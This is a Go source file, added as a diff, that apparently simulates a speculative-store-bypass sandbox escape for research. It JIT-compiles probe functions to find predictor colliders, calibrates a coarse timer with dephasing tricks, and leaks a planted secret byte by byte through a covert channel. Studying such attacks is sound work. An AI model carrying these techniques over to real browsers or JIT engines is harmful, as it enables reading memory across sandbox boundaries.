@@ -1,0 +1,322 @@
+package sandbox
+
+import (
+	"fmt"
+	"sort"
+
+	"zenspec/internal/kernel"
+)
+
+// EscapeResult reports a sandbox-escape run.
+type EscapeResult struct {
+	Secret  []byte
+	Leaked  []byte
+	Correct int
+	// ProbesCompiled is how many JITed functions the collision searches
+	// burned (the browser analogue of code-sliding attempts).
+	ProbesCompiled int
+}
+
+func (r EscapeResult) String() string {
+	return fmt.Sprintf("sandbox escape: leaked %d/%d bytes through SSBP with masked memory, no CLFLUSH and a coarse timer (%d probe modules compiled)",
+		r.Correct, len(r.Secret), r.ProbesCompiled)
+}
+
+// gadget layout constants (heap slot indices).
+const (
+	gadgetIdx2  = 40  // the slot ld1 reads (and the store sanitizes)
+	knownSlot   = 300 // attacker-controlled slot used during training
+	heapSlots   = 8192
+	delayMuls   = 80 // stands in for the cache-missing index computation
+	probeDelays = 12
+)
+
+// victimGadget is the Listing 4 pattern: a sanitizing store to heap[idx],
+// a load of the same slot (bypassing the store under an SSBP
+// misprediction), an unmasked "just sanitized" dereference, and a masked
+// covert send.
+func victimGadget(b *Builder) {
+	b.Const(T5, 1)
+	b.Move(T0, Arg0) // idx
+	for i := 0; i < delayMuls; i++ {
+		b.Mul(T0, T0, T5)
+	}
+	b.Shl(T0, T0, 3)
+	b.Const(T1, 0)
+	b.StoreHeap(T0, T1) // heap[idx*8] = 0 (sanitize)
+
+	b.Move(T2, Arg0) // idx2 == idx
+	b.Shl(T2, T2, 3)
+	b.LoadHeap(T3, T2)      // ld1: stale value under bypass
+	b.LoadSanitized(T4, T3) // ld2: the unmasked dereference
+	b.And(T4, T4, 0xff)
+	b.Shl(T4, T4, 3)
+	b.LoadHeap(T2, T4) // ld3: aliases the store iff byte == idx
+	b.Return()
+}
+
+// probeGadget is the sandboxed stld: a delayed store and an immediate load,
+// timed with the coarse timer. Compiled many times, its load slides through
+// instruction physical addresses.
+func probeGadget(b *Builder) {
+	b.Timer(T2)
+	b.Const(T5, 1)
+	b.Move(T0, Arg0)
+	for i := 0; i < probeDelays; i++ {
+		b.Mul(T0, T0, T5)
+	}
+	b.Shl(T0, T0, 3)
+	b.Const(T1, 0)
+	b.StoreHeap(T0, T1)
+	b.Move(T3, Arg1)
+	b.Shl(T3, T3, 3)
+	b.LoadHeap(T4, T3)
+	b.Timer(T0)
+	b.Sub(Ret, T0, T2)
+	b.Return()
+}
+
+// escape carries the run state.
+type escape struct {
+	env       *Env
+	victim    *Module
+	ld1Col    *Module
+	ld3Col    *Module
+	delay     *Module
+	threshold uint64
+	rngState  uint64
+	res       *EscapeResult
+}
+
+// dephase runs a variable-length delay loop before a timed read, so
+// consecutive measurements do not phase-lock against the quantized timer —
+// the standard trick of coarse-timer attackers.
+func (e *escape) dephase() {
+	e.rngState = e.rngState*6364136223846793005 + 1442695040888963407
+	n := (e.rngState >> 33) % 40
+	e.delay.Call(n + 1)
+}
+
+// delayGadget spins Arg0 iterations.
+func delayGadget(b *Builder) {
+	b.Move(T0, Arg0)
+	b.Label("spin")
+	b.AddImm(T0, T0, -1)
+	b.JumpZero(T0, "out")
+	b.Jump("spin")
+	b.Label("out")
+	b.Return()
+}
+
+// Escape runs the end-to-end sandbox escape: plant a secret outside the
+// heap, find SSBP colliders by JIT-compiling probe functions, and leak the
+// secret through the predictor covert channel.
+func Escape(cfg kernel.Config, secret []byte) (EscapeResult, error) {
+	env, err := New(cfg, heapSlots*8)
+	if err != nil {
+		return EscapeResult{}, err
+	}
+	res := EscapeResult{Secret: secret}
+	secretBase := env.PlantSecret(secret)
+	victim, err := env.Compile(victimGadget)
+	if err != nil {
+		return res, err
+	}
+	e := &escape{env: env, victim: victim, res: &res, rngState: uint64(cfg.Seed)*2654435761 + 99}
+	e.delay, err = env.Compile(delayGadget)
+	if err != nil {
+		return res, err
+	}
+	if err := e.calibrate(); err != nil {
+		return res, err
+	}
+	if err := e.findColliders(); err != nil {
+		return res, err
+	}
+	// Arm ld3's entry: saturate C4 through the attacker's own collider,
+	// then drain C3 so the next rollback snaps it to 15.
+	for i := 0; i < 3; i++ {
+		e.drain(e.ld3Col)
+		e.callProbe(e.ld3Col, knownSlot+1, knownSlot+1) // aliasing: type G
+	}
+	e.drain(e.ld3Col)
+
+	for i := range secret {
+		res.Leaked = append(res.Leaked, e.leakByte(secretBase+uint64(i)))
+	}
+	for i := range secret {
+		if i < len(res.Leaked) && res.Leaked[i] == secret[i] {
+			res.Correct++
+		}
+	}
+	return res, nil
+}
+
+// callProbe runs a probe module with a store slot and load slot and returns
+// the coarse-timed cycles.
+func (e *escape) callProbe(m *Module, storeSlot, loadSlot uint64) uint64 {
+	v, err := m.Call(storeSlot, loadSlot)
+	if err != nil {
+		return 0
+	}
+	if v > 1<<62 {
+		return 0 // signed-negative jittered reading
+	}
+	return v
+}
+
+// probeRead times a non-aliasing probe execution, dephased against the
+// timer quantum.
+func (e *escape) probeRead(m *Module) uint64 {
+	e.dephase()
+	return e.callProbe(m, knownSlot+7, knownSlot+9)
+}
+
+// calibrate learns the stall-vs-fast threshold on a scratch collider pair
+// the attacker fully controls.
+func (e *escape) calibrate() error {
+	scratch, err := e.env.Compile(probeGadget)
+	if err != nil {
+		return err
+	}
+	// The detection floor is the timer's quantum: a dephased stall reading
+	// always spans at least one boundary, while a fast reading is usually
+	// zero. The smallest nonzero reading over a mixed sample pins it down.
+	var readings []uint64
+	e.rawDrain(scratch, 40)
+	for round := 0; round < 3; round++ {
+		e.callProbe(scratch, 5, 5) // aliasing: G (trains the entry)
+		for i := 0; i < 8; i++ {
+			readings = append(readings, e.probeRead(scratch))
+		}
+		e.rawDrain(scratch, 40)
+	}
+	for i := 0; i < 12; i++ {
+		readings = append(readings, e.probeRead(scratch))
+	}
+	sort.Slice(readings, func(i, j int) bool { return readings[i] < readings[j] })
+	for _, r := range readings {
+		if r > 0 {
+			e.threshold = r
+			break
+		}
+	}
+	if e.threshold == 0 {
+		return fmt.Errorf("sandbox: timer too coarse to calibrate")
+	}
+	e.rawDrain(scratch, 40)
+	return nil
+}
+
+// rawDrain drains an entry before the threshold exists: it simply runs the
+// probe n times (every stall consumes one C3 step regardless of whether we
+// can read it).
+func (e *escape) rawDrain(m *Module, n int) {
+	for i := 0; i < n; i++ {
+		e.callProbe(m, knownSlot+7, knownSlot+9)
+	}
+}
+
+// slow reads the covert channel. The decisive observation: a fast probe
+// (≈11 cycles) can span at most ONE quantum boundary, so it never reads
+// 2×quantum or more — while a stalled probe (≈67 cycles) does so on most
+// dephased readings. Three readings with any at 2×quantum is therefore a
+// zero-false-positive detector; misses are retried by the surrounding
+// sweeps.
+func (e *escape) slow(m *Module) bool {
+	for i := 0; i < 3; i++ {
+		if e.probeRead(m) >= 2*e.threshold {
+			return true
+		}
+	}
+	return false
+}
+
+// drain runs non-aliasing probes until the entry reads fast twice.
+func (e *escape) drain(m *Module) {
+	fast := 0
+	for i := 0; i < 60 && fast < 2; i++ {
+		if e.probeRead(m) < e.threshold {
+			fast++
+		} else {
+			fast = 0
+		}
+	}
+}
+
+// findColliders JIT-compiles probe functions until one shares ld1's SSBP
+// entry and another shares ld3's — the browser form of code sliding.
+func (e *escape) findColliders() error {
+	// Train ld1's entry to C3=15 through victim rollbacks (idx==idx2; the
+	// planted slot value points at attacker heap data, keeping ld2 benign).
+	e.env.WriteHeap(knownSlot*8, 0x11)
+	trainLd1 := func() {
+		for i := 0; i < 3; i++ {
+			e.env.WriteHeap(gadgetIdx2*8, knownSlot*8) // ld2 -> heap[knownSlot]
+			e.env.TouchHeap(gadgetIdx2 * 8)
+			e.victim.Call(gadgetIdx2)
+			if e.ld1Col != nil {
+				e.drain(e.ld1Col)
+			}
+		}
+	}
+	trainLd1()
+	var err error
+	e.ld1Col, err = e.search()
+	if err != nil {
+		return fmt.Errorf("ld1 collider: %v", err)
+	}
+	e.drain(e.ld1Col)
+
+	// Train ld3's entry: point ld2 at a known byte k and call with idx=k,
+	// so ld3 aliases the store and rolls back.
+	k := uint64(0x11)
+	for i := 0; i < 3; i++ {
+		e.env.WriteHeap(k*8, knownSlot*8)
+		e.env.TouchHeap(k * 8)
+		e.victim.Call(k)
+		e.drain(e.ld1Col)
+	}
+	e.ld3Col, err = e.search()
+	if err != nil {
+		return fmt.Errorf("ld3 collider: %v", err)
+	}
+	e.drain(e.ld3Col)
+	return nil
+}
+
+// search compiles probes until one shares the trained entry, detected with
+// the double-quantum reading (see slow): modules whose timed region crosses
+// a page boundary read one quantum high every time but can never reach two
+// quanta, so only a genuine C3 stall triggers.
+func (e *escape) search() (*Module, error) {
+	for n := 0; n < 24000; n++ {
+		m, err := e.env.Compile(probeGadget)
+		if err != nil {
+			return nil, err
+		}
+		e.res.ProbesCompiled++
+		if e.slow(m) {
+			return m, nil
+		}
+	}
+	return nil, fmt.Errorf("no collision in 24000 modules")
+}
+
+// leakByte guesses the secret byte at ptr (an absolute renderer address).
+func (e *escape) leakByte(ptr uint64) byte {
+	off := ptr - e.env.HeapBase() // what ld2 adds to the heap base
+	for sweep := 0; sweep < 2; sweep++ {
+		for guess := 0; guess < 256; guess++ {
+			e.drain(e.ld1Col)
+			e.env.WriteHeap(uint64(guess)*8, off) // plant the OOB pointer
+			e.env.TouchHeap(uint64(guess) * 8)    // the plant itself warmed it
+			e.victim.Call(uint64(guess))
+			if e.slow(e.ld3Col) {
+				e.drain(e.ld3Col)
+				return byte(guess)
+			}
+		}
+	}
+	return 0
+}
